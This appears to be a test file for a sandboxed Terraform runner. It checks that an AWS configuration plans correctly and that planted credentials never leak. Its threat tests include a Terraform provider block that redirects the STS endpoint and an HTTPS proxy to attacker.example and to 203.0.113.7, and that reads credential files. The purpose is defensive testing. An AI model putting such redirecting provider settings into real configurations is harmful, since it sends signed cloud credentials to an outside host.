@@ -1,0 +1,70 @@
+// The AWS provider where it matters: a real multi-resource configuration plans jailed with the right
+// counts and exactly bare terraform's plan JSON; credentials reach only the plan step and never come
+// back; threat row 21 (provider arguments that redirect requests or read credentials).
+import { fileURLToPath } from 'node:url';
+import { describe, expect, it } from 'vitest';
+import { barePlanJson, withoutTimestamps } from './support/bare.js';
+import { errorText, expectBlocked, stepNames } from './support/expect.js';
+import { AWS_PROVIDER, PLANTED, assertNoPlantedSecret, files, runTerraform, testConfig } from './support/runner.js';
+
+const FIXTURE = fileURLToPath(new URL('../fixtures/terraform/aws-basic', import.meta.url));
+
+describe('aws provider', () => {
+  it('aws_config_plans_with_counts_and_matches_bare_terraform', async () => {
+    const result = await runTerraform({ input: { kind: 'directory', path: FIXTURE } });
+    expect(result.error).toBeNull();
+    expect(result.summary).toMatchObject({ add: 7, change: 0, destroy: 0, replace: 0, noop: 0 });
+    expect(result.summary?.resources.map((r) => r.address).sort()).toEqual([
+      'aws_iam_role.worker', 'aws_s3_bucket.logs', 'aws_s3_bucket_versioning.logs', 'aws_sqs_queue.jobs',
+      'aws_subnet.private[0]', 'aws_subnet.private[1]', 'aws_vpc.main',
+    ]);
+    const bare = await barePlanJson(FIXTURE, testConfig().providerMirror);
+    expect(withoutTimestamps(result.plan_json)).toEqual(withoutTimestamps(bare));
+    assertNoPlantedSecret(JSON.stringify(bare));
+  });
+});
+
+describe('threat row 21: aws provider arguments', () => {
+  const risky = `${AWS_PROVIDER}
+provider "aws" {
+  alias  = "evil"
+  region = "us-east-1"
+  endpoints {
+    sts = "http://attacker.example"
+  }
+  https_proxy              = "http://attacker.example:3128"
+  custom_ca_bundle         = "/workspace/ca.pem"
+  shared_credentials_files = ["/workspace/creds"]
+  shared_config_files      = ["/workspace/config"]
+  profile                  = "process"
+  assume_role {
+    role_arn = "arn:aws:iam::123456789012:role/x"
+  }
+}
+`;
+
+  it('redirecting_and_credential_sourcing_arguments_are_blocked_with_lines', async () => {
+    const result = await runTerraform({ input: files({ 'main.tf': risky }) });
+    expectBlocked(result, 'provider_argument', 'main.tf', 20);
+    const lines = Object.fromEntries(result.findings.filter((f) => f.rule === 'provider_argument').map((f) => [f.message.split('"')[3], f.line]));
+    expect(lines).toEqual({
+      endpoints: 20, https_proxy: 23, custom_ca_bundle: 24, shared_credentials_files: 25, shared_config_files: 26, profile: 27, assume_role: 28,
+    });
+  });
+
+  it('endpoint_redirect_with_policy_warning_cannot_reach_attacker_provider_error', async () => {
+    // Without skip_* flags the provider calls STS at the attacker's endpoint with the request's credentials
+    // signed in; the jail has no network, so nothing leaves, and the credentials stay redacted.
+    const result = await runTerraform({
+      input: files({
+        'main.tf': 'provider "aws" {\n  region      = "us-east-1"\n  max_retries = 1\n  endpoints {\n    sts = "http://203.0.113.7:8080"\n  }\n}\nresource "aws_sqs_queue" "q" {\n  name = "q"\n}\n',
+      }),
+    }, { TF_POLICY_WARN: 'provider_argument' });
+    expect(result.error?.type).toBe('provider_error');
+    expect(stepNames(result)).toEqual(['init', 'plan']);
+    expect(errorText(result)).toMatch(/address family not supported by protocol|dial tcp/);
+    expect(result.findings).toContainEqual(expect.objectContaining({ rule: 'provider_argument', severity: 'warn', line: 4 }));
+    assertNoPlantedSecret(JSON.stringify(result));
+    expect(PLANTED.aws_access_key_id.length).toBeGreaterThan(10);
+  });
+});
